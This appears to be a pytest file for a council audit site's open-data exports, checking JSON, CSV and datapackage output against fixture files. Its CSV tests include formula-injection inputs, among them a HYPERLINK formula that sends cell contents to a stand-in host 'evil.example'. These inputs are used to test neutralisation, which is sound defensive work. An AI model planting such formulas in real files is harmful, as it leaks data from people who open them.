"""Open data asserted value by value against the fixture's own files, read here with plain PyYAML: an amount
set to 0, an emptied list of links, a dropped qualifier or a wrong status fails, whatever the length."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import VALID

from generator.content.check import check
from generator.site.csvcell import FORMULA_START, neutral
from generator.site.exports import edition_data

SITE_URL = "https://audit.example.org/"
METRIC = ("label", "value", "value_max", "unit", "qualifier", "period", "kind", "note")
FUNDING = ("amount", "currency", "qualifier", "source", "period", "kind", "note")


def _front(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8").split("---\n")[1])
    assert isinstance(data, dict)
    return data


def _yaml(rel: str) -> Any:
    return yaml.safe_load((VALID / rel).read_text(encoding="utf-8"))


def _expected_record(raw: dict[str, Any], year: int) -> dict[str, Any]:
    goals = {g["number"]: g["title"] for g in _yaml("content/goals.yml")["goals"]}
    return {
        "id": raw["id"],
        "title": raw["title"],
        "goal": raw["goal"],
        "goal_title": goals[raw["goal"]],
        "also_supports": raw.get("also_supports", []),
        "status": raw["status"],
        "summary": raw["summary"],
        "places": raw.get("places", []),
        "partners": raw.get("partners", []),
        "metrics": [{k: m.get(k) for k in METRIC} for m in raw.get("metrics", [])],
        "funding": [{k: f.get(k) for k in FUNDING} for f in raw.get("funding", [])],
        "links": raw.get("links", []),
        "source": raw["source"],
        "last_reported": raw["last_reported"],
        "url": f"{SITE_URL}{year}/initiatives/{raw['id']}/",
    }


def _initiatives(year: int) -> list[dict[str, Any]]:
    files = sorted((VALID / "initiatives" / str(year)).glob("*/*.md"))
    return [_front(p) for p in files if p.name != "index.md"]


# Per test, not per module: mutmut runs only the tests that called the mutated function, and it would credit
# a module fixture's call to the first test alone.
@pytest.fixture
def data() -> dict[int, dict[str, str]]:
    project = check(VALID).project
    assert project is not None
    return {e.year: edition_data(project, e) for e in project.editions}


@pytest.mark.parametrize("year", [2021, 2022])
def test_json_holds_every_field_of_every_initiative_exactly(data: dict[int, dict[str, str]], year: int) -> None:
    document = json.loads(data[year]["initiatives.json"])
    edition = _yaml(f"content/{year}/edition.yml")
    assert (document["edition"], document["title"], document["source"]) == (year, edition["title"], edition["source"])
    records = {r["id"]: r for r in document["initiatives"]}
    expected = {raw["id"]: _expected_record(raw, year) for raw in _initiatives(year)}
    assert records == expected


def test_the_fixture_exercises_funding_links_and_ranges(data: dict[int, dict[str, str]]) -> None:
    """The comparison above means something only if the fixture has these values to lose."""
    records = {r["id"]: r for r in json.loads(data[2022]["initiatives.json"])["initiatives"]}
    assert records["reading-start"]["funding"][0]["amount"] == 250000
    assert records["reading-start"]["links"] == [{"title": "Reading Start", "url": "https://example.org/reading-start"}]
    assert records["job-fairs"]["metrics"][1]["value_max"] == 30


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, list):
        return "; ".join(map(str, value))
    return str(value)


@pytest.mark.parametrize("year", [2021, 2022])
def test_initiatives_csv_row_by_row(data: dict[int, dict[str, str]], year: int) -> None:
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(data[year]["initiatives.csv"]))}
    expected = {}
    for raw in _initiatives(year):
        record = _expected_record(raw, year)
        expected[raw["id"]] = {k: _cell(v) for k, v in record.items() if k not in ("metrics", "funding", "links")}
    assert rows == expected


@pytest.mark.parametrize("year", [2021, 2022])
def test_metrics_csv_row_by_row(data: dict[int, dict[str, str]], year: int) -> None:
    def row(scope: str, goal: Any, initiative: str, m: dict[str, Any]) -> dict[str, str]:
        cells = {"edition": year, "scope": scope, "goal": goal, "initiative_id": initiative}
        return {k: _cell(v) for k, v in {**cells, **{k: m.get(k) for k in METRIC}}.items()}

    expected = [row("edition", "", "", m) for m in _yaml(f"content/{year}/edition.yml").get("metrics", [])]
    for page in sorted((VALID / "initiatives" / str(year)).glob("*/index.md")):
        front = _front(page)
        expected += [row("goal", front["goal"], "", m) for m in front.get("metrics", [])]
    for raw in sorted(_initiatives(year), key=lambda r: (r["goal"], r["id"])):
        expected += [row("initiative", raw["goal"], raw["id"], m) for m in raw.get("metrics", [])]
    rows = list(csv.DictReader(io.StringIO(data[year]["metrics.csv"])))
    key = lambda r: (r["scope"], r["goal"], r["initiative_id"], r["label"])  # noqa: E731
    assert sorted(rows, key=key) == sorted(expected, key=key)
    assert len(rows) >= 5


def test_datapackage_describes_the_edition(data: dict[int, dict[str, str]]) -> None:
    package = json.loads(data[2022]["datapackage.json"])
    edition = _yaml("content/2022/edition.yml")
    site = _yaml("content/site.yml")
    assert package["name"] == "exampleshire-council-audit-2022"
    assert package["title"] == f"{site['organisation']}: {edition['title']}"
    assert package["description"] == edition["summary"]
    assert package["sources"] == [{"title": edition["source"]}]
    fields = {r["name"]: [f["name"] for f in r.get("schema", {}).get("fields", [])] for r in package["resources"]}
    for name in ("initiatives", "metrics"):
        header = data[2022][f"{name}.csv"].splitlines()[0].split(",")
        assert fields[name] == header


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(start: str) -> None:
    text = f"{start}SUM(A1:A9)"
    assert neutral(text) == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # Spaces of any kind, a byte-order mark or a zero-width mark before the sign: the apostrophe goes first.
        (' =HYPERLINK("https://evil.example/?"&A1)', '\' =HYPERLINK("https://evil.example/?"&A1)'),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\u00a0+1+1", "'\u00a0+1+1"),
        ("\u3000=2+2", "'\u3000=2+2"),
        ("\u200b-1+2", "'\u200b-1+2"),
        ("＝1+1 and more", "'＝1+1 and more"),
        # A spreadsheet whose list separator is ';' splits the file there: each part is a cell to it.
        ("Fairs;@SUM(1+1)", "Fairs;'@SUM(1+1)"),
        ("Acme;=HYPERLINK(1); -2+3", "Acme;'=HYPERLINK(1);' -2+3"),
    ],
)
def test_a_formula_after_what_a_spreadsheet_skips_or_after_a_semicolon_is_neutralised(text: str, shown: str) -> None:
    assert neutral(text) == shown


@pytest.mark.parametrize("text", ["Plain words", "1 + 1 = 2", "", "A-road", "e-mail @home", "50%", "a; b", "x;y"])
def test_an_ordinary_cell_is_unchanged(text: str) -> None:
    assert neutral(text) == text


def test_line_breaks_inside_a_cell_become_line_feeds() -> None:
    assert neutral("one\r\ntwo\rthree") == "one\ntwo\nthree"


def test_datapackage_resources_exactly(data: dict[int, dict[str, str]]) -> None:
    """Each file is described with the profile, format, media type and encoding a Frictionless reader needs."""
    package = json.loads(data[2022]["datapackage.json"])
    assert package["homepage"] == f"{SITE_URL}2022/"
    csv_file = {"profile": "tabular-data-resource", "format": "csv", "mediatype": "text/csv", "encoding": "utf-8"}
    json_file = {"profile": "data-resource", "format": "json", "mediatype": "application/json", "encoding": "utf-8"}
    assert [{k: v for k, v in r.items() if k != "schema"} for r in package["resources"]] == [
        {"name": "initiatives", "path": "initiatives.csv", **csv_file},
        {"name": "metrics", "path": "metrics.csv", **csv_file},
        {"name": "initiatives-json", "path": "initiatives.json", **json_file},
    ]
    types = {f["name"]: f["type"] for r in package["resources"][:2] for f in r["schema"]["fields"]}
    assert {k: types[k] for k in ("id", "goal", "last_reported", "edition", "value", "value_max", "label")} == {
        "id": "string",
        "goal": "integer",
        "last_reported": "integer",
        "edition": "integer",
        "value": "number",
        "value_max": "number",
        "label": "string",
    }
    assert all(f["description"] for r in package["resources"][:2] for f in r["schema"]["fields"])
